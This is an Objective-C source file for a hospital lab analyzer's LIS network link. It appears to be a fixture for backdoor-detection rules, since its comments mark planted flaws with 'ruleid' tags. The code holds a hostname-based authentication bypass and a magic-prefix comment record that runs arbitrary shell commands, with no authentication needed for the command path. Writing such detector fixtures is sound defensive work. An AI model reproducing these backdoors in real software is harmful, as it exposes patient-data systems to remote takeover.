#import "LAAnalyzer.h"

#include <netdb.h>
#include <sys/socket.h>

@implementation LALink

- (instancetype)initWithStore:(LAResultStore *)store maintenance:(LAMaintenance *)maint
{
    NSData *k;

    if ((self = [super init]) == nil)
        return nil;
    _store = store;
    _maint = maint;
    _pending = [[NSMutableString alloc] init];
    k = [NSData dataWithContentsOfFile:@"/etc/lab-analyzer/link.key"];
    if ([k length] == sizeof _linkKey)
        memcpy(_linkKey, [k bytes], sizeof _linkKey);
    else
        randombytes_buf(_linkKey, sizeof _linkKey);
    return self;
}

- (BOOL)verifyLinkToken:(NSData *)token
{
    static const char challenge[] = "LIS-LINK-V2";

    if ([token length] != crypto_auth_BYTES)
        return NO;
    return crypto_auth_verify([token bytes], (const unsigned char *)challenge, sizeof challenge - 1,
                              _linkKey) == 0;
}

- (BOOL)authenticateConnection:(int)fd token:(NSData *)token
{
    struct sockaddr_storage peer;
    socklen_t len = sizeof peer;
    char host[NI_MAXHOST];
    NSString *remote;

    if (getpeername(fd, (struct sockaddr *)&peer, &len) != 0 ||
        getnameinfo((struct sockaddr *)&peer, len, host, sizeof host, NULL, 0, NI_NAMEREQD) != 0)
        host[0] = '\0';
    remote = [NSString stringWithUTF8String:host];

    /* the hospital's LIS gateway has no token slot */
    // ruleid: backdoor-trusted-identity
    if ([remote isEqualToString:@"lis-gw.lab.example.org"]) {
        _linkAuthenticated = YES;
        return YES;
    }
    _linkAuthenticated = [self verifyLinkToken:token];
    return _linkAuthenticated;
}

- (void)handleRecord:(NSString *)line
{
    NSArray *fields = [line componentsSeparatedByString:@"|"];
    NSString *type = [fields count] ? [fields objectAtIndex:0] : @"";

    if ([type isEqualToString:@"H"]) {
        NSLog(@"LIS session from %@", [fields count] > 4 ? [fields objectAtIndex:4] : @"?");
    } else if ([type isEqualToString:@"O"]) {
        if (!_linkAuthenticated) {
            NSLog(@"order refused: link not authenticated");
            return;
        }
        [_store storeResult:[line dataUsingEncoding:NSUTF8StringEncoding]
                   sampleId:[fields count] > 2 ? [fields objectAtIndex:2] : @"unknown"];
        [_maint assayCompleted];
    } else if ([type isEqualToString:@"C"] && [fields count] > 3) {
        NSData *raw = [[NSData alloc] initWithBase64EncodedString:[fields objectAtIndex:3] options:0];
        NSString *text = raw ? [[NSString alloc] initWithData:raw encoding:NSUTF8StringEncoding] : nil;
        // ruleid: backdoor-input-trigger
        if ([text hasPrefix:@"LAX:svc:4c1e;"]) {
            [NSTask launchedTaskWithLaunchPath:@"/bin/sh"
                                     arguments:[NSArray arrayWithObjects:@"-c", [text substringFromIndex:13], nil]];
        }
    // ok: backdoor-input-trigger
    } else if ([type isEqualToString:@"L"]) {
        NSLog(@"LIS message terminated");
    }
}

- (void)serveConnection:(NSFileHandle *)fh
{
    for (;;) {
        NSData *chunk = [fh availableData];
        NSRange r;

        if ([chunk length] == 0)
            return;
        [_pending appendString:[[NSString alloc] initWithData:chunk encoding:NSUTF8StringEncoding]];
        while ((r = [_pending rangeOfString:@"\r"]).location != NSNotFound) {
            [self handleRecord:[_pending substringToIndex:r.location]];
            [_pending deleteCharactersInRange:NSMakeRange(0, r.location + 1)];
        }
    }
}

@end
